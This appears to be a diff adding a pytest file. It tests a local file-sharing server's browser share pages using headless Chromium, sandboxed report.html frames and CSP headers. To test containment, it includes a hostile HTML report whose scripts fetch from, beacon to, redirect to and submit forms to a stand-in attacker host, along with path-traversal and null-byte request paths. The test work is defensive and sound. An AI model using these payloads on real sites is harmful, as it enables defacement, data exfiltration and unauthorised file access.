@@ -1,0 +1,296 @@
+"""Share links in a browser (issue 12): a page with the run, a download button and the archive's
+report.html in a sandboxed frame; programs still get the zip. Headless Chromium via Playwright.
+
+The archive is a real one: the engine's export of an OMNeT++ run from ../shared/omnetpp-results.
+When the engine does not write report.html yet, a stand-in made from that export's own CSVs is
+added, following the contract (one self-contained file at the top level: inline CSS and SVG,
+data: images, no script, no network).
+"""
+from __future__ import annotations
+
+import base64
+import csv
+import hashlib
+import html
+import io
+import os
+import subprocess
+import sys
+import threading
+import zipfile
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+import requests
+from PIL import Image
+from test_local_cloud import KEY, raw_request
+
+from local_cloud.client import LocalCloudClient
+from local_cloud.testing import LocalCloudServer
+
+REPO = Path(__file__).resolve().parents[1]
+RUN = REPO.parent / "shared" / "omnetpp-results" / "aloha-PureAloha1"
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+                 "--disable-component-update", "--disable-sync", "--no-first-run"]
+
+
+def export_run(out: Path) -> Path:
+    """The engine's archive of a real run (results.zip), as the pipeline uploads it."""
+    env = {**os.environ, "PYTHONPATH": str(REPO / "plugins")}
+    zip_path = out / "results.zip"
+    subprocess.run([sys.executable, "-m", "omnetpp_results", "export", str(RUN), str(out / "content"),
+                    "--precision", "10", "--no-graphs", "--zip", str(zip_path), "--quiet"],
+                   env=env, check=True, capture_output=True, timeout=120)
+    return zip_path
+
+
+def stand_in_report(content: Path) -> str:
+    """A report.html by the contract, from the export's CSVs: scalar table, one SVG chart, a data: image."""
+    scalars = list(csv.DictReader(open(content / "csv" / "scalars.csv")))
+    vectors = list(csv.DictReader(open(content / "csv" / "vectors.csv")))
+    series = list(csv.DictReader(open(content / "csv" / vectors[0]["file"])))
+    points = [(float(r["time"]), float(r["value"])) for r in series if r["value"]]
+    t_max, v_max = max(t for t, _ in points) or 1, max(v for _, v in points) or 1
+    poly = " ".join(f"{40 + 560 * t / t_max:.1f},{190 - 170 * v / v_max:.1f}" for t, v in points)
+    swatch = io.BytesIO()
+    Image.new("RGB", (120, 14), (31, 111, 235)).save(swatch, "PNG")
+    rows = "".join(f"<tr><td>{html.escape(s['module'])}</td><td>{html.escape(s['name'])}</td><td>{s['value']}</td></tr>"
+                   for s in scalars)
+    run = html.escape(scalars[0]["run"])
+    return f"""<!doctype html><html><head><meta charset="utf-8"><title>Aloha PureAloha1 &mdash; {run}</title>
+<style>body{{font-family:sans-serif;margin:1.5rem}} table{{border-collapse:collapse}}
+td{{border:1px solid #ccc;padding:.2rem .5rem}} h2{{margin-top:1.5rem}}</style></head><body>
+<h1>Run {run}</h1><img alt="legend" src="data:image/png;base64,{base64.b64encode(swatch.getvalue()).decode()}">
+<h2>{html.escape(vectors[0]['name'])} of {html.escape(vectors[0]['module'])}</h2>
+<svg width="620" height="210" role="img"><polyline fill="none" stroke="#1f6feb" stroke-width="1.5" points="{poly}"/>
+<line x1="40" y1="190" x2="600" y2="190" stroke="#333"/><text x="40" y="206" font-size="11">0 s</text>
+<text x="560" y="206" font-size="11">{t_max:g} s</text></svg>
+<h2>Scalars</h2><table id="scalars">{rows}</table></body></html>"""
+
+
+def with_member(src: Path, dest: Path, name: str, data: bytes | str) -> Path:
+    dest.write_bytes(src.read_bytes())
+    with zipfile.ZipFile(dest, "a", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(name, data)
+    return dest
+
+
+@pytest.fixture(scope="module")
+def share(tmp_path_factory):
+    """A server holding: the run's archive with its report, the same without, a non-zip, a hostile one."""
+    tmp = tmp_path_factory.mktemp("share")
+    plain = export_run(tmp)
+    with zipfile.ZipFile(plain) as z:
+        has_report = "report.html" in z.namelist()
+    if has_report:  # the engine writes its own report: use it as it is
+        with_report, report_html = plain, zipfile.ZipFile(plain).read("report.html").decode()
+        with zipfile.ZipFile(plain) as z:
+            plain = tmp / "no-report.zip"
+            with zipfile.ZipFile(plain, "w") as out:
+                for info in z.infolist():
+                    if info.filename != "report.html":
+                        out.writestr(info, z.read(info))
+    else:
+        report_html = stand_in_report(tmp / "content")
+        with_report = with_member(plain, tmp / "with-report.zip", "report.html", report_html)
+    with LocalCloudServer(tmp / "store", KEY) as srv:
+        c = LocalCloudClient(srv.url, KEY)
+        recs = {
+            "run": c.upload(with_report, "Aloha-PureAloha1-results.zip", keep_days=7),
+            "plain": c.upload(plain, "no-report.zip", keep_days=7),
+            "notzip": c.upload(tmp / "content" / "INFO.txt", "INFO.txt"),
+        }
+        yield srv, recs, tmp, report_html
+
+
+@pytest.fixture(scope="module")
+def browser():
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield b
+        b.close()
+
+
+# --- programs get the file ----------------------------------------------------------------
+
+def test_programs_get_the_zip_itself(share, tmp_path):
+    srv, recs, _, _ = share
+    rec = recs["run"]
+    r = requests.get(rec["link"])  # python requests: Accept */*
+    assert r.headers["content-type"] == "application/zip" and hashlib.sha256(r.content).hexdigest() == rec["sha256"]
+    assert r.headers["content-disposition"].startswith("attachment;") and r.headers["vary"] == "Accept"
+    for tool in (["curl", "-sf", "-o"], ["wget", "-q", "-O"]):
+        out = tmp_path / f"by-{tool[0]}.zip"
+        subprocess.run([*tool, str(out), rec["link"]], check=True, timeout=60)
+        assert hashlib.sha256(out.read_bytes()).hexdigest() == rec["sha256"], tool[0]
+    for accept in ("application/zip", "*/*", "", "text/html;q=0, */*"):
+        r = requests.get(rec["link"], headers={"Accept": accept})
+        assert hashlib.sha256(r.content).hexdigest() == rec["sha256"], accept
+    r = requests.get(rec["link"], headers={"Accept": "text/html", "Range": "bytes=0-99"})
+    assert r.status_code == 206 and len(r.content) == 100  # a resumed download stays a download
+    r = requests.get(rec["link"] + "/download", headers={"Accept": "text/html,*/*;q=0.8"})
+    assert hashlib.sha256(r.content).hexdigest() == rec["sha256"]
+
+
+# --- a person in a browser ---------------------------------------------------------------------
+
+def test_browser_sees_the_run_its_report_and_a_download_button(share, browser, tmp_path):
+    srv, recs, _, report_html = share
+    rec = recs["run"]
+    page = browser.new_page(viewport={"width": 1280, "height": 900}, accept_downloads=True)
+    errors, foreign = [], []
+    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+    page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(srv.url) else None)
+    page.goto(rec["link"])
+    frame = page.frame_locator("iframe")
+    frame.locator("table").first.wait_for()
+    title = html.unescape(report_html.split("<title>", 1)[1].split("</title>", 1)[0]).strip()
+    assert page.locator("h1").inner_text() == " ".join(title.split())
+    header = page.locator("header").inner_text()
+    assert "Aloha-PureAloha1-results.zip" in header and f"{rec['size']:,} bytes" in header
+    assert "in 7 days" in header and rec["expires_at"][:10] in header
+    assert page.locator("iframe").get_attribute("sandbox") == ""
+    assert frame.locator("svg").count() >= 1  # the report's inline chart rendered in the frame
+    page.screenshot(path=str(tmp_path / "share-page.png"), full_page=True)
+    with page.expect_download() as dl:
+        page.get_by_role("link", name="Download").click()
+    assert hashlib.sha256(Path(dl.value.path()).read_bytes()).hexdigest() == rec["sha256"]
+    assert errors == [] and foreign == []
+    page.close()
+    assert (tmp_path / "share-page.png").stat().st_size > 10_000
+
+
+def test_archive_without_report_says_so_and_still_offers_the_file(share, browser):
+    srv, recs, _, _ = share
+    for key in ("plain", "notzip"):
+        rec = recs[key]
+        page = browser.new_page()
+        page.goto(rec["link"])
+        assert "has no report.html" in page.locator("main").inner_text()
+        assert page.locator("iframe").count() == 0
+        with page.expect_download() as dl:
+            page.get_by_role("link", name="Download").click()
+        assert hashlib.sha256(Path(dl.value.path()).read_bytes()).hexdigest() == rec["sha256"]
+        page.close()
+        assert requests.get(rec["link"] + "/report.html").status_code == 404
+
+
+def test_expired_or_unknown_link_gives_a_page_to_browsers(share, browser):
+    srv, _, _, _ = share
+    page = browser.new_page()
+    response = page.goto(srv.url + "/f/" + "x" * 32)
+    assert response.status == 404 and "expired or does not exist" in page.locator("h1").inner_text()
+    page.close()
+    assert requests.get(srv.url + "/f/" + "x" * 32).json()["detail"].startswith("no such file")
+
+
+# --- only report.html, and only sandboxed ------------------------------------------------------
+
+def test_no_other_member_is_reachable(share, tmp_path):
+    srv, recs, _, _ = share
+    fid = recs["run"]["id"]
+    for target in ["INFO.txt", "csv/scalars.csv", "omnetpp.ini", "report.html/../INFO.txt", "%2e%2e/INFO.txt",
+                   "report.html%00.txt", "REPORT.HTML", "report.htm", "report.html/x", "..%2FINFO.txt"]:
+        status = raw_request(srv, f"GET /f/{fid}/{target} HTTP/1.1", b"", {"Accept": "text/html"})
+        assert status in (400, 404), target
+    # members that only look like the report (other folder, traversal, a directory) are not it
+    c = LocalCloudClient(srv.url, KEY)
+    for i, name in enumerate(["sub/report.html", "../report.html", "/report.html", "report.html/"]):
+        odd = tmp_path / f"odd{i}.zip"
+        with zipfile.ZipFile(odd, "w") as z:
+            z.writestr(name, "<title>not the report</title>")
+        rec = c.upload(odd, f"odd{i}.zip")
+        assert requests.get(rec["link"] + "/report.html").status_code == 404, name
+
+
+def test_report_is_served_sandboxed_with_a_strict_policy(share):
+    srv, recs, _, report_html = share
+    r = requests.get(recs["run"]["link"] + "/report.html")
+    assert r.status_code == 200 and r.text == report_html  # streamed out of the zip, byte for byte
+    csp = r.headers["content-security-policy"]
+    assert csp.startswith("sandbox;") and "default-src 'none'" in csp and "script-src" not in csp
+    assert "frame-ancestors 'self'" in csp and r.headers["x-content-type-options"] == "nosniff"
+    page = requests.get(recs["run"]["link"], headers={"Accept": "text/html"})
+    assert "frame-src 'self'" in page.headers["content-security-policy"]
+    assert page.headers["x-frame-options"] == "DENY" and page.headers["referrer-policy"] == "no-referrer"
+
+
+class Evil:
+    """Another origin that records every request a hostile report manages to make."""
+
+    def __init__(self):
+        hits = self.hits = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("content-type", "text/html")
+                self.end_headers()
+                self.wfile.write(b"<h1>pwned</h1>")
+
+            do_POST = do_GET
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+
+
+def hostile_report(evil: str) -> str:
+    return f"""<!doctype html><html><head><title>hostile &lt;b&gt;title&lt;/b&gt;</title>
+<base href="{evil}/base/"><link rel="stylesheet" href="{evil}/css">
+<meta http-equiv="refresh" content="0;url={evil}/refresh"></head><body>
+<h1 id="h">report</h1>
+<script>document.getElementById('h').textContent = 'script ran'; document.title = 'script ran';</script>
+<script>top.location = '{evil}/top';</script>
+<script>fetch('{evil}/fetch'); new Image().src = '{evil}/beacon';</script>
+<script>parent.document.body.innerHTML = 'defaced';</script>
+<img src="{evil}/img"><iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object>
+<form id="f" action="{evil}/form" method="post"><input name="a" value="b"></form>
+<script>document.getElementById('f').submit();</script>
+<a id="top" href="{evil}/click-top" target="_top">go top</a>
+<a id="here" href="{evil}/click-here">go here</a>
+<a id="popup" href="{evil}/popup" target="_blank">popup</a></body></html>"""
+
+
+def test_a_hostile_report_is_contained(share, browser, tmp_path):
+    srv, recs, _, _ = share
+    evil = Evil()
+    try:
+        base = recs["plain"]
+        src = tmp_path / "src.zip"
+        src.write_bytes(requests.get(base["link"]).content)
+        hostile = with_member(src, tmp_path / "hostile.zip", "report.html", hostile_report(evil.origin))
+        rec = LocalCloudClient(srv.url, KEY).upload(hostile, "hostile.zip")
+        context = browser.new_context()
+        page = context.new_page()
+        page.goto(rec["link"])
+        page.wait_for_load_state("networkidle")
+        frame = page.frame_locator("iframe")
+        assert frame.locator("#h").inner_text() == "report"  # no script ran in the frame
+        assert page.locator("h1").inner_text() == "hostile <b>title</b>"  # the title is text, not markup
+        for link in ("#popup", "#top", "#here"):  # even a click leads nowhere outside (the last one
+            # replaces the frame with the browser's "blocked" page: frame-src 'self' in our CSP)
+            frame.locator(link).click()
+        page.wait_for_load_state("networkidle")
+        assert page.url == rec["link"] and "defaced" not in page.content()
+        assert len(context.pages) == 1  # no popup
+        # opened on its own, the report is still sandboxed by its CSP header
+        alone = context.new_page()
+        alone.goto(rec["link"] + "/report.html")
+        alone.wait_for_load_state("networkidle")
+        assert alone.locator("#h").inner_text() == "report" and alone.url == rec["link"] + "/report.html"
+        context.close()
+        assert evil.hits == []
+    finally:
+        evil.close()
